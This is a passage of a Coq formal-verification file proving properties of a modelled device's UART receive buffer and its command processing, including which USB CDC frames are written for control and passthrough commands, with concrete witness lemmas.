    by (apply Buffer_init_ok; lia).
  assert (Havail : read_available (2 ^ 10) (Buffer_init (2 ^ 10)) = 0)
    by reflexivity.
  split.
  - apply push_all_ok; [lia|exact Hinit|]. rewrite Havail. lia.
  - destruct (push_all_spec 10 ltac:(lia) data (Buffer_init (2 ^ 10)))
      as [_ Hstored]; [apply Hinit|].
    rewrite Hstored, Havail.
    change (stored (2 ^ 10) (Buffer_init (2 ^ 10))) with (@nil ascii).
    rewrite take_ge by lia. reflexivity.
Qed.

Lemma read_result_returns_first_reply_witness :
  exists b',
    UartRx.read_result (2 ^ 10) [0%nat]
      (push_all (2 ^ 10) (Buffer_init (2 ^ 10))
                (cmd_frame (lit "OK 00000000") ++ cmd_frame (lit "# next")))
      = Some (new_success [], b') /\
    stored (2 ^ 10) b' = cmd_frame (lit "# next").
Proof.
  destruct (buffer_of_ok (cmd_frame (lit "OK 00000000")
                            ++ cmd_frame (lit "# next")))
    as [Hok Hstored]; [vm_compute; discriminate|].
  destruct (read_result_returns_first_reply 10 ltac:(lia) _
              (lit "OK 00000000") (cmd_frame (lit "# next")) 0%nat []
              Hok Hstored)
    as (b' & Hread & Hrest & _).
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - reflexivity.
  - exists b'. split; [exact Hread|exact Hrest].
Defined.

Lemma read_result_loses_reply_after_skipped_line_witness :
  exists b',
    UartRx.read_result (2 ^ 10) [0; 5; 5]%nat
      (push_all (2 ^ 10) (Buffer_init (2 ^ 10))
                (cmd_frame (lit "# boot") ++ cmd_frame (lit "OK 00000000")))
      = Some (new_timeout, b') /\
    stored (2 ^ 10) b' = [].
Proof.
  destruct (buffer_of_ok (cmd_frame (lit "# boot")
                            ++ cmd_frame (lit "OK 00000000")))
    as [Hok Hstored]; [vm_compute; discriminate|].
  destruct (read_result_loses_reply_after_skipped_line 10 ltac:(lia) _
              (lit "# boot") (lit "OK 00000000") 0%nat 5%nat [5%nat]
              Hok Hstored)
    as [Hlost _].
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - reflexivity.
  - vm_compute. discriminate.
  - exact Hlost.
Defined.

Lemma wait_echo_loses_echo_after_stale_line_witness :
  exists b',
    UartRx.wait_echo (2 ^ 10) (lit "version") [0; 5; 5]%nat
      (push_all (2 ^ 10) (Buffer_init (2 ^ 10))
                (cmd_frame (lit "$$ [MANU] UART CMD READY")
                   ++ cmd_frame (lit "version")))
      = Some (false, b') /\
    stored (2 ^ 10) b' = [].
Proof.
  destruct (buffer_of_ok (cmd_frame (lit "$$ [MANU] UART CMD READY")
                            ++ cmd_frame (lit "version")))
    as [Hok Hstored]; [vm_compute; discriminate|].
  destruct (wait_echo_loses_echo_after_stale_line 10 ltac:(lia) _
              (lit "$$ [MANU] UART CMD READY") (lit "version")
              0%nat 5%nat [5%nat] Hok Hstored)
    as [Hlost _].
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - apply (bool_decide_unpack _). vm_compute. reflexivity.
  - discriminate.
  - vm_compute. discriminate.
  - exact Hlost.
Defined.

(** ** The host side *)

Lemma cdc_frames_app (a b : list DevEvent) :
  cdc_frames (a ++ b) = cdc_frames a ++ cdc_frames b.
Proof. apply omap_app. Qed.

Lemma cdc_frames_session (evs : list Event) :
  cdc_frames (map DevSession evs) = [].
Proof. induction evs as [|e evs IH]; [reflexivity|exact IH]. Qed.

Lemma trace_since_app (d d' : Device) (new : list DevEvent) :
  dev_trace d' = dev_trace d ++ new -> trace_since d d' = new.
Proof. intros H. unfold trace_since. rewrite H. apply drop_app_length. Qed.

Section QuietRules.
Context {A B : Type}.

Lemma dquiet_ret (a : A) : dquiet (dret a).
Proof.
  intros d a' d' Hrun. apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  exists []. rewrite app_nil_r. split; reflexivity.
Qed.

Lemma dquiet_bind (m : DM A) (k : A -> DM B) :
  dquiet m -> (forall a, dquiet (k a)) -> dquiet (dbind m k).
Proof.
  intros Hm Hk d b d2 Hrun. unfold dbind in Hrun.
  destruct (m d) as [[a d1]|] eqn:Hrun1; [|discriminate].
  destruct (Hm d a d1 Hrun1) as (new & Htrace & Hframes).
  destruct (Hk a d1 b d2 Hrun) as (new' & Htrace' & Hframes').
  exists (new ++ new').
  split; [rewrite Htrace', Htrace, app_assoc; reflexivity|].
  rewrite cdc_frames_app, Hframes, Hframes'. reflexivity.
Qed.

Lemma dquiet_lift (m : M A) : dquiet (lift m).
Proof.
  intros d a d' Hrun. unfold lift in Hrun.
  destruct (m (dev_session d)) as [[a' s']|]; [|discriminate].
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  eexists. split; [reflexivity|]. apply cdc_frames_session.
Qed.

End QuietRules.

Lemma dquiet_dev_emit (e : DevEvent) :
  cdc_frames [e] = [] -> dquiet (dev_emit e).
Proof.
  intros He d a d' Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  exists [e]. split; [reflexivity|exact He].
Qed.

Lemma dquiet_set_in_rom_ (v : bool) : dquiet (set_in_rom_ v).
Proof.
  intros d a d' Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [_ <-].
  exists []. cbn [dev_trace]. rewrite app_nil_r. split; reflexivity.
Qed.

Lemma dquiet_rom_enter_exit (split_string : str -> ascii -> list str)
    (cmd : str) :
  dquiet (rom_enter_exit split_string cmd).
Proof.
  unfold rom_enter_exit, uart_rx_clear.
  destruct (negb _); [apply dquiet_ret|].
  destruct (str_eqb _ (lit "enter")).
  { repeat (apply dquiet_bind; [|intros _]);
      first [apply dquiet_lift | apply dquiet_dev_emit; reflexivity
            | apply dquiet_set_in_rom_ | apply dquiet_ret]. }
  destruct (str_eqb _ (lit "exit")); [|apply dquiet_ret].
  repeat (apply dquiet_bind; [|intros _]);
    first [apply dquiet_lift | apply dquiet_dev_emit; reflexivity
          | apply dquiet_set_in_rom_ | apply dquiet_ret].
Qed.

(** X26: what a call of [process_cmd] that returns has handed to
    [cdc_write] depends on the class of the command. A passthrough
    command gets no frame at all. Every control command is first echoed
    as an Unknown frame carrying the command text. After [picoreset] the
    device reboots and nothing more is done. For every other control
    command the handler of its class is run next ([autorun], the reset
    pulse, [rom_enter_exit], [set_fw_consts] or [set_chip_consts]), and
    the frame of the result that this handler returned is written as the
    last action; these two frames are the only ones. *)
Theorem process_cmd_frames (emc : Emc)
    (split_string : str -> ascii -> list str) (itf : Z) (cmd : str)
    (d d' : Device) :
  process_cmd emc split_string itf cmd d = Some (tt, d') ->
  let echo := to_usb_response (new_unknown cmd) in
  let handled_by (handler : DM Result) :=
    exists result d1,
      handler (dev_log d [DevCdcWrite itf echo]) = Some (result, d1) /\
      d' = dev_log d1 [DevCdcWrite itf (to_usb_response result)] /\
      cdc_frames (trace_since d d')
        = [(itf, echo); (itf, to_usb_response result)] in
  match parse_command_type (in_rom_ d) cmd with
  | kPassthroughUcmd | kPassthroughRom => cdc_frames (trace_since d d') = []
  | kPicoReset => d' = dev_log d [DevCdcWrite itf echo; DevResetUsbBoot]
  | kUnlock =>
      handled_by (lift (autorun emc)) /\
      exists result,
        autorun emc (dev_session d) = Some (result, dev_session d') /\
        last (dev_trace d') = Some (DevCdcWrite itf (to_usb_response result))
  | kEmcReset => handled_by (lift reset_reset ;;;; dret (new_success []))
  | kEmcRom => handled_by (rom_enter_exit split_string cmd)
  | kSetFwConsts => handled_by (lift (set_fw_consts split_string cmd))
  | kSetChipConsts => handled_by (lift (set_chip_consts split_string cmd))
  end.
Proof.
  intros Hrun echo handled_by.
  assert (Hcontrol : forall (handler : DM Result),
    dquiet handler ->
    (cdc_write itf echo ;;;;
     result <-- (result <-- handler ;; dret (Some result)) ;;
     match result with
     | Some result => cdc_write itf (to_usb_response result)
     | None => dret tt
     end) d = Some (tt, d') ->
    handled_by handler).
  { intros handler Hquiet Hctl. unfold dbind at 1 in Hctl.
    unfold cdc_write at 1, dev_emit at 1 in Hctl.
    fold (dev_log d [DevCdcWrite itf echo]) in Hctl.
    unfold dbind in Hctl.
    destruct (handler (dev_log d [DevCdcWrite itf echo]))
      as [[result d1]|] eqn:Hh; [|discriminate].
    unfold dret, cdc_write, dev_emit in Hctl.
    apply (inj Some), pair_equal_spec in Hctl as [_ <-].
    exists result, d1. split; [exact Hh|]. split; [reflexivity|].
    destruct (Hquiet _ _ _ Hh) as (new & Htrace & Hframes).
    erewrite trace_since_app.
    2:{ cbn [dev_trace dev_log] in *. rewrite Htrace, <- !app_assoc.
        reflexivity. }
    cbn [app]. change (DevCdcWrite itf echo :: new ++ ?l)
      with ([DevCdcWrite itf echo] ++ new ++ l).
    rewrite !cdc_frames_app, Hframes. reflexivity. }
  unfold process_cmd in Hrun. unfold dbind at 1 in Hrun.
  unfold get_device in Hrun.
  destruct (parse_command_type (in_rom_ d) cmd) eqn:Htype.
  - (* kUnlock *)
    pose proof (Hcontrol (lift (autorun emc)) (dquiet_lift _) Hrun) as Hh.
    split; [exact Hh|].
    destruct Hh as (result & d1 & Hh & -> & _).
    exists result. unfold lift in Hh. cbn [dev_session dev_log] in Hh.
    destruct (autorun emc (dev_session d)) as [[r s']|]; [|discriminate].
    apply (inj Some), pair_equal_spec in Hh as [<- <-].
    split; [reflexivity|]. cbn [dev_trace dev_log]. apply last_snoc.
  - (* kPicoReset *)
    unfold process_cmd_switch, dbind, cdc_write, dev_emit, dret in Hrun.
    apply (inj Some), pair_equal_spec in Hrun as [_ <-].
    unfold dev_log. cbn [dev_trace dev_session in_rom_].
    rewrite <- app_assoc. reflexivity.
  - (* kEmcReset *)
    apply (Hcontrol (lift reset_reset ;;;; dret (new_success []))).
    { apply dquiet_bind; [apply dquiet_lift|intros _; apply dquiet_ret]. }
    rewrite <- Hrun. unfold process_cmd_switch, dbind.
    destruct (cdc_write _ _ d) as [[[] d1]|]; [|reflexivity].
    destruct (lift reset_reset d1) as [[[] d2]|]; reflexivity.
  - (* kEmcRom *)
    exact (Hcontrol _ (dquiet_rom_enter_exit split_string cmd) Hrun).
  - (* kSetFwConsts *)
    exact (Hcontrol _ (dquiet_lift _) Hrun).
  - (* kSetChipConsts *)
    exact (Hcontrol _ (dquiet_lift _) Hrun).
  - (* kPassthroughUcmd *)
    destruct (dquiet_bind (lift (cmd_send emc cmd false)) (fun _ => dret tt)
                (dquiet_lift _) (fun _ => dquiet_ret tt) d tt d' Hrun)
      as (new & Htrace & Hframes).
    rewrite (trace_since_app d d' new Htrace). exact Hframes.
  - (* kPassthroughRom *)
    destruct (hex2buf cmd) as [buf|].
    + destruct (dquiet_lift (emit (EvUartWrite buf false)) d tt d' Hrun)
        as (new & Htrace & Hframes).
      rewrite (trace_since_app d d' new Htrace). exact Hframes.
    + apply (inj Some), pair_equal_spec in Hrun as [_ <-].
      rewrite (trace_since_app d d []) by (rewrite app_nil_r; reflexivity).
      reflexivity.
Qed.

Lemma process_cmd_frames_witness :
  exists d' result,
    process_cmd emc_ack (fun s sep => split_at sep s) 0 (lit "unlock")
                (mkDevice [] Session_init false) = Some (tt, d') /\
    autorun emc_ack Session_init = Some (result, dev_session d') /\
    cdc_frames (dev_trace d')
      = [(0, to_usb_response (new_unknown (lit "unlock")));
         (0, to_usb_response result)].
Proof.
  set (d := mkDevice [] Session_init false).
  assert (Hreturns : match process_cmd emc_ack (fun s sep => split_at sep s)
                             0 (lit "unlock") d with
                     | Some _ => True
                     | None => False
                     end) by (vm_compute; exact I).
  destruct (process_cmd emc_ack (fun s sep => split_at sep s) 0
              (lit "unlock") d) as [[[] d']|] eqn:Hrun; [|destruct Hreturns].
  pose proof (process_cmd_frames emc_ack (fun s sep => split_at sep s) 0
                (lit "unlock") d d' Hrun) as H.
  cbv zeta in H.
  change (parse_command_type (in_rom_ d) (lit "unlock")) with kUnlock in H.
  destruct H as [(result & d1 & Hh & Hd' & Hframes) (result' & Hauto & _)].
  exists d', result'. split; [reflexivity|]. split; [exact Hauto|].
  assert (Hsame : result = result').
  { unfold lift in Hh. cbn [dev_session dev_log] in Hh.
    change (dev_session d) with Session_init in Hh, Hauto.
    rewrite Hauto in Hh. apply (inj Some), pair_equal_spec in Hh as [Hr _].
    symmetry. exact Hr. }
  rewrite <- Hsame. exact Hframes.
Defined.

Lemma no_keyword_passthrough (in_rom : bool) (cmd : str) :
  no_keyword cmd ->
  parse_command_type in_rom cmd
    = if in_rom then kPassthroughRom else kPassthroughUcmd.
Proof.
  intros Hnone. unfold parse_command_type.
  rewrite (Hnone (lit "unlock") kUnlock), (Hnone (lit "picoreset") kPicoReset),
    (Hnone (lit "picoemcreset") kEmcReset), (Hnone (lit "picoemcrom") kEmcRom),
    (Hnone (lit "picofwconst") kSetFwConsts),
    (Hnone (lit "picochipconst") kSetChipConsts);
    [reflexivity|unfold control_keywords; in_codes..].
Qed.

(** X27: a command that starts with no keyword is passed through without
    any answer to the host and without waiting for the controller. Out
    of ROM mode the device writes the command with its checksum suffix
    and a newline, and does not wait for transmission, echo or result.
    In ROM mode the command is taken as hexadecimal digits: the decoded
    bytes are written as they are, and a command that is not a run of
    two-digit bytes is dropped without a trace. The ROM-mode flag is not
    changed. *)
Theorem process_cmd_passthrough (emc : Emc)
    (split_string : str -> ascii -> list str) (itf : Z) (cmd : str)
    (d : Device) :
  no_keyword cmd ->
  exists d',
    process_cmd emc split_string itf cmd d = Some (tt, d') /\
    in_rom_ d' = in_rom_ d /\
    trace_since d d'
      = (if in_rom_ d then
           match hex2buf cmd with
           | Some buf => [DevSession (EvUartWrite buf false)]
           | None => []
           end
         else [DevSession (EvUartWrite (cmd_frame cmd) false)]).
Proof.
  intros Hnone. unfold process_cmd. unfold dbind at 1. unfold get_device.
  rewrite (no_keyword_passthrough (in_rom_ d) cmd Hnone).
  destruct (in_rom_ d) eqn:Hrom.
  - destruct (hex2buf cmd) as [buf|].
    + unfold lift. rewrite emit_total.
      eexists. split; [reflexivity|]. cbn [in_rom_]. split; [exact Hrom|].
      erewrite trace_since_app by reflexivity.
      erewrite events_since_app by reflexivity. reflexivity.
    + exists d. unfold dret. split; [reflexivity|]. split; [exact Hrom|].
      apply trace_since_app. rewrite app_nil_r. reflexivity.
  - unfold dbind, lift, cmd_send, write_str_blocking, bind.
    rewrite emit_total. cbn [negb]. unfold ret, dret.
    eexists. split; [reflexivity|]. cbn [in_rom_]. split; [exact Hrom|].
    erewrite trace_since_app by reflexivity.
    erewrite events_since_app by reflexivity. reflexivity.
Qed.

Lemma process_cmd_passthrough_witness :
  exists d',
    process_cmd emc_ack (fun s sep => split_at sep s) 0 (lit "00ff")
                (mkDevice [] Session_init true) = Some (tt, d') /\
    trace_since (mkDevice [] Session_init true) d'
      = [DevSession (EvUartWrite (bytes [0x00; 0xff]) false)].
Proof.
  destruct (process_cmd_passthrough emc_ack (fun s sep => split_at sep s) 0
              (lit "00ff") (mkDevice [] Session_init true))
    as (d' & Hrun & _ & Htrace).
  - intros kw t Hin. unfold control_keywords in Hin.
    repeat (apply elem_of_cons in Hin as [Hin|Hin];
            [apply pair_equal_spec in Hin as [-> _]; reflexivity|]).
    apply elem_of_nil in Hin. destruct Hin.
  - exists d'. split; [exact Hrun|exact Htrace].
Defined.
